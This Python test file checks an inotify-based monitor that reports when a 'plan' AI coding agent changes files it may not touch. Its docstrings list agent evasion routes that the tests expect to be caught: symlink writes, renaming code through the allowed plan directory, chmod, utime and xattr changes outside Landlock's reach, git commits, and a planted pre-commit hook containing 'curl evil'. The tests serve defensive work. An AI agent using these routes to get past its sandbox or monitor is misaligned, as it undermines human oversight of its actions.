"""Real inotify, real git: every kind of change is mapped to an effect and decided.

Absence of a violation is checked with a sentinel: after the allowed change,
a forbidden one is made; inotify delivers events in order, so once the
sentinel's violation is in, any violation of the earlier change would be too.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

from guard.audit import logfile
from guard.monitor import Monitor
from tests.monitor.conftest import git, wait_for


def sentinel(m: Monitor, wt: Path, name: str = "sentinel.txt") -> None:
    target = wt / name
    target.write_text("sentinel\n")
    wait_for(lambda: any(v.path == str(target) for v in m.violations), f"violation for {target}")


def only(m: Monitor, path: Path) -> list[str]:
    return sorted({v.event for v in m.violations if v.path == str(path)})


def test_plan_agent_creating_a_source_file_is_a_violation(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: the plan agent writes a new source file (e.g. a hook skipped by the host)."""
    m = start_monitor()
    target = wt / "src" / "new.py"
    target.write_text("import os\n")
    wait_for(lambda: str(target) in [v.path for v in m.violations], "create violation")
    v = next(v for v in m.violations if v.path == str(target))
    assert v.effect == "write"
    assert v.event in ("created", "modified", "closed-after-write")
    assert v.agent == "plan" and v.session == "test-session"
    assert "agents.plan.write" in v.rule
    assert v.action_taken.startswith("reported")
    # exactly once, even though create, modify and close-after-write all arrived
    sentinel(m, wt)
    assert [x.path for x in m.violations].count(str(target)) == 1


def test_editing_a_tracked_file_is_reported_with_rule_and_logged(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: the plan agent edits committed code in place."""
    m = start_monitor()
    target = wt / "src" / "app.py"
    with target.open("a") as f:
        f.write("print('changed')\n")
    wait_for(lambda: str(target) in [v.path for v in m.violations], "modify violation")

    def logged() -> list[dict[str, object]]:
        if not m.audit_path.exists():
            return []
        return [r for r in logfile.read(m.audit_path) if r.get("type") == "violation"]

    # the record is written after the violation is known, outside the monitor's lock
    wait_for(lambda: bool(logged()), "the violation's audit record")
    records = logged()
    assert [r["path"] for r in records] == [str(target)]
    rec = records[0]
    for key in ("ts", "timestamp", "session", "agent", "event", "path", "rule", "action_taken"):
        assert rec[key], key
    assert m.audit_path.is_relative_to(m.guard.roots.data)


def test_deleting_a_file_is_a_delete_violation(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: the plan agent removes a tracked file."""
    m = start_monitor()
    target = wt / "docs" / "a.md"
    target.unlink()
    wait_for(lambda: str(target) in [v.path for v in m.violations], "delete violation")
    v = next(v for v in m.violations if v.path == str(target))
    assert (v.event, v.effect) == ("deleted", "delete")
    assert "agents.plan.delete" in v.rule


def test_writing_the_plan_file_is_not_a_violation(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    m = start_monitor()
    plan = wt / ".openoxide" / "plans" / "20261202-s-plan.md"
    plan.write_text("# Plan\n\n1. read\n")
    with plan.open("a") as f:
        f.write("2. think\n")
    sentinel(m, wt)
    assert [v.path for v in m.violations] == [str(wt / "sentinel.txt")]


def test_rename_into_the_plan_directory_reports_only_the_source(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: move code into the plan directory, where writes are allowed, to delete it."""
    m = start_monitor()
    src = wt / "docs" / "b.md"
    dest = wt / ".openoxide" / "plans" / "b.md"
    os.rename(src, dest)
    wait_for(lambda: str(src) in [v.path for v in m.violations], "moved-from violation")
    sentinel(m, wt)
    v = next(v for v in m.violations if v.path == str(src))
    assert (v.event, v.effect) == ("moved-from", "delete")
    assert v.detail == f"to {dest}"
    assert str(dest) not in [v.path for v in m.violations]


def test_rename_out_of_the_plan_directory_reports_the_destination(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: write a payload as a plan file (allowed), then move it over to src/."""
    plan = wt / ".openoxide" / "plans" / "payload.md"
    plan.write_text("payload\n")
    m = start_monitor()
    dest = wt / "src" / "payload.py"
    os.rename(plan, dest)
    wait_for(lambda: str(dest) in [v.path for v in m.violations], "moved-to violation")
    sentinel(m, wt)
    v = next(v for v in m.violations if v.path == str(dest))
    assert (v.event, v.effect) == ("moved-to", "write")
    assert str(plan) not in [v.path for v in m.violations]  # deleting a plan file is allowed


def test_chmod_is_an_attribute_violation(wt: Path, start_monitor: Callable[..., Monitor]) -> None:
    """Attack: make a script executable — Landlock does not cover chmod; the monitor does."""
    m = start_monitor()
    target = wt / "src" / "app.py"
    target.chmod(0o755)
    wait_for(lambda: str(target) in [v.path for v in m.violations], "attrib violation")
    assert only(m, target) == ["attrib"]


def test_utime_is_an_attribute_violation(wt: Path, start_monitor: Callable[..., Monitor]) -> None:
    """Attack: back-date a file (utime is not covered by Landlock either)."""
    m = start_monitor()
    target = wt / "docs" / "a.md"
    os.utime(target, (1_000_000, 1_000_000))
    wait_for(lambda: str(target) in [v.path for v in m.violations], "utime violation")
    assert only(m, target) == ["attrib"]


def test_writing_through_a_symlink_in_the_plan_directory_is_caught(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: a plan-directory symlink to src/app.py, then write "the plan file"."""
    link = wt / ".openoxide" / "plans" / "innocent.md"
    link.symlink_to(wt / "src" / "app.py")
    m = start_monitor()
    with open(link, "a") as f:
        f.write("# written through the link\n")
    real = wt / "src" / "app.py"
    wait_for(lambda: str(real) in [v.path for v in m.violations], "violation on the target")


def test_creating_a_symlink_to_code_in_the_plan_directory_is_a_violation(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: prepare the symlink above while plan mode is on (both ends are checked)."""
    m = start_monitor()
    link = wt / ".openoxide" / "plans" / "sneaky.md"
    link.symlink_to(wt / "src" / "app.py")
    wait_for(lambda: str(link) in [v.path for v in m.violations], "symlink creation violation")


def test_planting_a_git_hook_is_a_violation(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: persistence through .git/hooks — never ignored as git churn."""
    m = start_monitor()
    hook = wt / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\ncurl evil\n")
    wait_for(lambda: str(hook) in [v.path for v in m.violations], "git hook violation")
    v = next(v for v in m.violations if v.path == str(hook))
    assert "protected" in v.reason


def test_git_status_index_refresh_is_not_reported(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """`git status` rewrites .git/index; that churn is ignored (docs/monitor.md says why)."""
    m = start_monitor()
    app = wt / "src" / "app.py"
    os.utime(app)  # makes the index stale so git status refreshes it
    wait_for(lambda: str(app) in [v.path for v in m.violations], "utime violation")
    git(wt, "status", "--porcelain")
    git(wt, "hash-object", "-w", str(wt / "docs" / "a.md"))
    sentinel(m, wt)
    assert not [v.path for v in m.violations if "/.git/" in v.path]


def test_git_commit_by_the_agent_is_reported(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: commit in plan mode. Objects and index are ignored, but refs are not."""
    m = start_monitor()
    subprocess.run(
        ["git", "-C", str(wt), "commit", "-q", "--allow-empty", "-m", "sneaky"], check=True
    )
    wait_for(
        lambda: any(
            "/.git/refs/heads/" in v.path
            or v.path.endswith("/.git/HEAD")
            or "/.git/logs/" in v.path
            for v in m.violations
        ),
        "violation for a ref update",
    )


def test_monitor_does_not_report_its_own_quarantine_writes(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    m = start_monitor(restore=True)
    (wt / "src" / "x.py").write_text("x\n")
    (wt / "src" / "app.py").write_text("changed\n")
    wait_for(lambda: len(m.violations) >= 2, "two violations")
    sentinel(m, wt)
    assert sorted(v.path for v in m.violations) == sorted(
        [str(wt / "src" / "x.py"), str(wt / "src" / "app.py"), str(wt / "sentinel.txt")]
    )
    assert not [v for v in m.violations if "/quarantine/" in v.path]
    assert not [n for n in m.notices if n.event == "error"], m.notices


def test_build_agent_may_edit_the_worktree(wt: Path, start_monitor: Callable[..., Monitor]) -> None:
    m = start_monitor(agent="build")
    (wt / "src" / "app.py").write_text("build mode edit\n")
    hook = wt / ".git" / "hooks" / "post-checkout"
    hook.write_text("#!/bin/sh\n")  # protected in every agent: the sentinel
    wait_for(lambda: str(hook) in [v.path for v in m.violations], "protected path violation")
    assert [v.path for v in m.violations] == [str(hook)]


def test_unknown_agent_is_a_clear_error(guard_for: object) -> None:
    import pytest

    from guard.effects import GuardError

    with pytest.raises(GuardError, match="no agent 'nobody'"):
        Monitor(guard_for, "nobody")  # type: ignore[arg-type]


def test_setting_an_xattr_is_an_attribute_violation(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """Attack: stash data in an extended attribute (Landlock does not cover setxattr)."""
    import pytest

    target = wt / "src" / "app.py"
    try:
        os.setxattr(target, "user.guard-test", b"probe")
        os.removexattr(target, "user.guard-test")
    except OSError as exc:
        pytest.skip(f"this file system has no user xattrs: {exc.strerror}")
    m = start_monitor()
    os.setxattr(target, "user.payload", b"exfiltrated")
    wait_for(lambda: str(target) in [v.path for v in m.violations], "xattr violation")
    assert only(m, target) == ["attrib"]


def test_creating_the_plan_directory_is_allowed_but_chmod_of_it_is_not(
    wt: Path, start_monitor: Callable[..., Monitor]
) -> None:
    """The plan directory may be created (the plan needs it); opening it up to everyone
    afterwards is an attribute change like any other."""
    import shutil

    shutil.rmtree(wt / ".openoxide")
    m = start_monitor()
    plans = wt / ".openoxide" / "plans"
    plans.mkdir(parents=True)
    (plans / "p.md").write_text("# plan\n")
    sentinel(m, wt)
    assert [v.path for v in m.violations] == [str(wt / "sentinel.txt")]
    plans.chmod(0o777)
    wait_for(lambda: str(plans) in [v.path for v in m.violations], "chmod of the plan dir")
